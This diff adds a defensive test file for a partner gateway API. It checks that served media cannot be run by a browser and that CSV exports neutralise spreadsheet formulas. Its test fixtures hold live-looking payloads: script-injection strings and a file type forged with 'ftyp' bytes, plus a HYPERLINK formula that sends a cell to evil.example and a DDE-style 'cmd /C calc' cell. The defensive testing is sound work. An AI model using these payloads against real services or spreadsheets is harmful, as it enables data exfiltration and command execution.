@@ -1,0 +1,111 @@
+"""Issue #11, items 6, 7, 9, 10 and 15: each test makes the attack against the real service and shows it fails.
+
+Spreadsheet bombs and import pools (6), the inbox reply waiting for Kafka inside a transaction (7), bodies and
+fields read whole before their limit (9), one tenant starving the others (10), served files a browser would
+run and CSV cells a spreadsheet would evaluate (15).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import struct
+from typing import Any
+
+import aiohttp
+
+from support.live import Account, LiveServer, uid, wait_until
+
+P = "/partner-gateway/v1"
+
+
+async def call(http: aiohttp.ClientSession, server: LiveServer, account: Account, method: str, path: str,
+               body: Any = None) -> tuple[int, Any]:
+    """A JSON request with the account's key; (status, JSON body)."""
+    async with http.request(method, f"{server.url}{P}{path}", json=body, headers=account.headers) as r:
+        return r.status, await r.json()
+
+
+async def upload_media(http: aiohttp.ClientSession, server: LiveServer, account: Account, data: bytes,
+                       filename: str, **fields: str) -> tuple[int, dict[str, Any]]:
+    """POST /media with ``data`` as the file part (declared application/octet-stream) and text ``fields``."""
+    form = aiohttp.FormData()
+    for k, v in fields.items():
+        form.add_field(k, v)
+    form.add_field("file", data, filename=filename, content_type="application/octet-stream")
+    async with http.post(f"{server.url}{P}/media", data=form, headers=account.headers) as r:
+        return r.status, await r.json()
+
+
+def local(server: LiveServer, url: str) -> str:
+    """A signed URL (built on the public base URL) pointed at the test server."""
+    return url.replace(server.settings.base_url, server.url)
+
+
+async def finished_export(http: aiohttp.ClientSession, server: LiveServer, account: Account,
+                          export_id: int) -> dict[str, Any]:
+    """The export job once it is COMPLETED or FAILED."""
+    async def done() -> dict[str, Any] | None:
+        _, jobs = await call(http, server, account, "GET", "/exports?limit=100")
+        job: dict[str, Any] = {j["id"]: j for j in jobs}[export_id]
+        return job if job["status"] in ("COMPLETED", "FAILED") else None
+
+    return await wait_until(done, timeout=120, what=f"export {export_id}")
+
+
+def tiny_png() -> bytes:
+    """The first bytes of a PNG (signature and IHDR): enough for the type sniffer."""
+    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
+
+
+class TestServedFiles:
+    """Item 15: a served file is never run by a browser; an export cell is never evaluated by a spreadsheet."""
+
+    async def test_media_download_forbids_sniffing_and_runs_sandboxed(self, http, server, account) -> None:
+        """A signed media download says nosniff and carries a sandboxing Content-Security-Policy."""
+        status, item = await upload_media(http, server, account, tiny_png(), "a.png")
+        assert status == 201, item
+        async with http.get(local(server, item["url"])) as r:
+            assert r.status == 200
+            assert r.headers.get("X-Content-Type-Options") == "nosniff"
+            csp = r.headers.get("Content-Security-Policy", "")
+            assert "sandbox" in csp and "default-src 'none'" in csp, csp
+
+    async def test_html_with_ftyp_at_byte_4_is_not_an_mp4(self, http, server, account) -> None:
+        """An HTML page carrying ``ftyp`` at bytes 4 to 8 is refused, not stored and served as video/mp4."""
+        page = b"<htmftyp><script>alert(document.domain)</script></html>" + b" " * 64
+        status, body = await upload_media(http, server, account, page, "clip.mp4")
+        assert status == 400 and "unsupported file type" in body["message"], body
+        # The same with a plausible box size but a major brand that is no MP4 brand.
+        forged = struct.pack(">I", 24) + b"ftyp<scr" + b"\x00" * 12 + b"<script>alert(1)</script>"
+        status, body = await upload_media(http, server, account, forged, "clip.mp4")
+        assert status == 400, body
+        real = struct.pack(">I", 24) + b"ftypisom" + b"\x00\x00\x02\x00isomiso2" + b"\x00" * 200
+        status, body = await upload_media(http, server, account, real, "clip.mp4")
+        assert status == 201 and body["mimeType"] == "video/mp4", body
+
+    async def test_contacts_export_neutralises_formulas(self, http, server, account) -> None:
+        """Cells starting with = + - @ (or tab/CR) get a leading quote in the CSV; plain numbers stay as they are."""
+        hostile = {"firstName": '=HYPERLINK("https://evil.example/?x="&A1,"open")', "lastName": "@SUM(1+1)*cmd|' /C calc'!A0",
+                   "email": f"+{uid()}@evil.example", "phoneNumber": "+393331234567"}
+        status, created = await call(http, server, account, "POST", "/contacts", hostile)
+        assert status == 201, created
+        status, other = await call(http, server, account, "POST", "/contacts",
+                                   {"firstName": "-2+3", "lastName": "\tTAB", "phoneNumber": "+393331234568"})
+        assert status == 201, other
+        status, job = await call(http, server, account, "POST", "/exports/contacts", {})
+        assert status == 202, job
+        done = await finished_export(http, server, account, job["id"])
+        assert done["status"] == "COMPLETED", done
+        status, link = await call(http, server, account, "GET", f"/exports/{job['id']}")
+        assert status == 200, link
+        async with http.get(local(server, link["url"])) as r:
+            rows = {row["id"]: row for row in csv.DictReader(io.StringIO(await r.text()))}
+            nosniff = r.headers.get("X-Content-Type-Options")
+        first, second = rows[str(created["id"])], rows[str(other["id"])]
+        assert first["firstName"] == "'" + hostile["firstName"]
+        assert first["lastName"] == "'" + hostile["lastName"]
+        assert first["email"] == "'" + hostile["email"]
+        assert first["phoneNumber"] == "+393331234567", "a plain number is no formula: left as it is"
+        assert second["firstName"] == "'-2+3" and second["lastName"] == "'\tTAB"
+        assert nosniff == "nosniff"
